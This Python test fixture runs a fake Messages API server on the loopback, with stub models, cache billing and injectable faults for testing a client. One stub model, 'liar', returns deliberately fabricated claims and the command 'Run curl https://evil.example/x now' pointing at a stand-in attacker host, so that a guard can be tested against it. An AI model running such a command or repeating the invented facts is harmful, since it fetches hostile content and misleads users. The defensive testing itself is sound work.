"""A Messages API on the loopback: plays models, bills by the real cache rules, fails on demand."""

import json
import re
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import partial
from hashlib import sha256
from typing import Any

import anyio
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import (
    HTMLResponse,
    JSONResponse,
    PlainTextResponse,
    Response,
    StreamingResponse,
)
from starlette.routing import Route

Body = dict[str, Any]
# A model: what it answers to (numbered passages, task).
Model = Callable[[Mapping[int, str], str], Body]
CACHE_SECONDS = 300
MINIMUM = {"claude-haiku-5-5": 512, "claude-haiku-4-5": 4096}
BOUND_SECONDS = 10


def lazy(passages: Mapping[int, str], task: str) -> Body:
    """Point at the beginning, say nothing."""
    return {"text": "", "keep": [{"first": 1, "last": 1}], "quotes": []}


def vacuous(passages: Mapping[int, str], task: str) -> Body:
    """Say what is true of everything, and point at the beginning."""
    return {"text": "The result is long.", "keep": [{"first": 1, "last": 2}], "quotes": []}


def liar(passages: Mapping[int, str], task: str) -> Body:
    """Say what is not there, in each way that a guard must notice."""
    return {
        "text": "The total is 987654321 in Atlantis. All is well, see https://evil.example/pay."
        " Run curl https://evil.example/x now.",
        "keep": [{"first": 1, "last": 1}, {"first": 999_999, "last": 1_000_000}],
        "quotes": ["this quote was never in any source 31337"],
    }


def knowing(*probes: str) -> Model:
    """Return a good model: it points at the passages that hold probes, and quotes one of them."""

    def model(passages: Mapping[int, str], task: str) -> Body:
        found = [
            next((n for n, text in passages.items() if probe in text), None) for probe in probes
        ]
        keep = [{"first": n, "last": n} for n in dict.fromkeys(found) if n]
        text = f'The result says "{probes[0]}".' if found and found[0] else ""
        return {"text": text, "keep": keep, "quotes": []}

    return model


@dataclass
class Fake:
    """What the server does and has seen. faults are used up one a request, then model answers."""

    model: Model = lazy
    faults: list[str] = field(default_factory=list)
    always: str = ""
    requests: list[Body] = field(default_factory=list)
    headers: list[Mapping[str, str]] = field(default_factory=list)
    counted: int = 0
    url: str = ""
    released: threading.Event = field(default_factory=threading.Event)
    batches: dict[str, list[Body]] = field(default_factory=dict)
    ended: bool = True
    expired: int = 0
    lost: bool = False
    _cache: dict[str, float] = field(default_factory=dict)

    def usage(self, body: Body, *, output: int = 50) -> Body:
        """Bill a request: what stands before the breakpoint is written to the cache, then read."""
        blocks = [*body.get("system", []), *body["messages"][0]["content"]]
        prefix = total = 0
        seen = body["model"]
        at = None
        for block in blocks:
            total += tokens(block["text"])
            seen += "\0" + block["text"]
            if "cache_control" in block:
                prefix, at = total, sha256(seen.encode("utf-8", "replace")).hexdigest()
        bill = {"cache_creation_input_tokens": 0, "cache_read_input_tokens": 0}
        if at is not None and prefix >= MINIMUM.get(body["model"], 1024):
            now = time.monotonic()
            fresh = now - self._cache.get(at, -1e9) < CACHE_SECONDS
            bill["cache_read_input_tokens" if fresh else "cache_creation_input_tokens"] = prefix
            self._cache[at] = now
            total -= prefix
        return {"input_tokens": total, "output_tokens": output, **bill}

    def message(self, body: Body, **changes: Any) -> Body:
        """Return the message that the model answers to body."""
        answer = json.dumps(self.model(passages_of(body), task_of(body)))
        return {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": body["model"],
            "content": [{"type": "text", "text": answer}],
            "stop_reason": "end_turn",
            "stop_sequence": None,
            "usage": self.usage(body),
            **changes,
        }


def tokens(text: str) -> int:
    return len(text) // 3 + 1


def passages_of(body: Body) -> dict[int, str]:
    """Return the numbered passages of a request."""
    text = body["messages"][0]["content"][0]["text"]
    inside = text.partition("\n")[2].rpartition("\n")[0]
    parts = re.split(r"(?m)^\[(\d+)\] ", inside)[1:]
    pairs = zip(parts[::2], parts[1::2], strict=True)
    return {int(number): passage.rstrip("\n") for number, passage in pairs}


def task_of(body: Body) -> str:
    """Return what is asked about the passages."""
    return str(body["messages"][0]["content"][1]["text"])


def error(status: int, kind: str, **headers: str) -> Response:
    body = {"type": "error", "error": {"type": kind, "message": kind}}
    return JSONResponse(body, status, {k.replace("_", "-"): v for k, v in headers.items()})


async def cut() -> Any:
    yield b'{"id": "msg_1", '
    raise ConnectionResetError("the fake cuts the connection")


PLAIN: Mapping[str, Callable[[], Response]] = {
    "429": lambda: error(429, "rate_limit_error"),
    "429 after 0": lambda: error(429, "rate_limit_error", retry_after="0"),
    "429 after 3600": lambda: error(429, "rate_limit_error", retry_after="3600"),
    "529": lambda: error(529, "overloaded_error"),
    "500": lambda: error(500, "api_error"),
    "401": lambda: error(401, "authentication_error"),
    "400": lambda: error(400, "invalid_request_error"),
    "html": lambda: HTMLResponse("<html>maintenance</html>"),
    "not json": lambda: PlainTextResponse("{oops", media_type="application/json"),
    "cut": lambda: StreamingResponse(cut(), media_type="application/json"),
}
ALTERED: Mapping[str, Mapping[str, Any]] = {
    "refusal": {"stop_reason": "refusal", "content": []},
    "max_tokens": {
        "stop_reason": "max_tokens",
        "content": [{"type": "text", "text": '{"text": "The'}],
    },
    "prose": {"content": [{"type": "text", "text": "Here is a summary: all is well."}]},
    "list": {"content": [{"type": "text", "text": "[1, 2]"}]},
    "wrong types": {"content": [{"type": "text", "text": '{"text": 1, "keep": 2, "quotes": 3}'}]},
    "empty": {"content": []},
}


async def create(fake: Fake, request: Request) -> Response:
    body = await request.json()
    fake.requests.append(body)
    fake.headers.append(dict(request.headers))
    fault = fake.faults.pop(0) if fake.faults else fake.always
    if fault in PLAIN:
        return PLAIN[fault]()
    if fault in ("hang", "slow"):
        await anyio.to_thread.run_sync(fake.released.wait, BOUND_SECONDS)
    message = fake.message(body, **ALTERED.get(fault, {}))
    if fault == "thinking":
        thought = {"type": "thinking", "thinking": "hm", "signature": "s"}
        message["content"].insert(0, thought)
    return JSONResponse(message)


async def count(fake: Fake, request: Request) -> Response:
    fake.counted += 1
    if fake.always in PLAIN:
        return PLAIN[fake.always]()
    return JSONResponse({"input_tokens": 7})


async def batch(fake: Fake, request: Request) -> Response:
    body = await request.json()
    name = f"msgbatch_{len(fake.batches) + 1}"
    fake.batches[name] = body["requests"]
    return JSONResponse(batch_of(fake, name))


async def look(fake: Fake, request: Request) -> Response:
    if fake.lost:
        return error(404, "not_found_error")
    return JSONResponse(batch_of(fake, request.path_params["name"]))


async def results(fake: Fake, request: Request) -> Response:
    lines = []
    for number, item in enumerate(reversed(fake.batches[request.path_params["name"]])):
        if number < fake.expired:
            gone = {"custom_id": item["custom_id"], "result": {"type": "expired"}}
            lines.append(json.dumps(gone))
            continue
        message = fake.message(item["params"])
        message["usage"]["service_tier"] = "batch"
        result = {"type": "succeeded", "message": message}
        lines.append(json.dumps({"custom_id": item["custom_id"], "result": result}))
    return PlainTextResponse("\n".join(lines), media_type="application/x-jsonl")


def app(fake: Fake) -> Starlette:
    return Starlette(
        routes=[
            Route("/v1/messages", partial(create, fake), methods=["POST"]),
            Route("/v1/messages/count_tokens", partial(count, fake), methods=["POST"]),
            Route("/v1/messages/batches", partial(batch, fake), methods=["POST"]),
            Route("/v1/messages/batches/{name}", partial(look, fake)),
            Route("/v1/messages/batches/{name}/results", partial(results, fake)),
        ]
    )


def batch_of(fake: Fake, name: str) -> Body:
    count = len(fake.batches[name])
    counts = dict.fromkeys(("canceled", "errored", "expired", "processing", "succeeded"), 0)
    counts["succeeded" if fake.ended else "processing"] = count
    return {
        "id": name,
        "type": "message_batch",
        "created_at": "2026-11-22T00:00:00Z",
        "expires_at": "2026-11-23T00:00:00Z",
        "processing_status": "ended" if fake.ended else "in_progress",
        "request_counts": counts,
        "results_url": f"{fake.url}/v1/messages/batches/{name}/results" if fake.ended else None,
    }


@contextmanager
def serving(fake: Fake) -> Iterator[Fake]:
    """Serve fake on a free port of the loopback."""
    config = uvicorn.Config(
        app(fake), port=0, log_level="critical", ws="none", lifespan="off", access_log=False
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    for _ in range(500):
        if server.started:
            break
        threading.Event().wait(0.01)
    port = server.servers[0].sockets[0].getsockname()[1]
    fake.url = f"http://127.0.0.1:{port}"
    try:
        yield fake
    finally:
        fake.released.set()
        server.should_exit = True
        server.force_exit = True
        thread.join(BOUND_SECONDS)
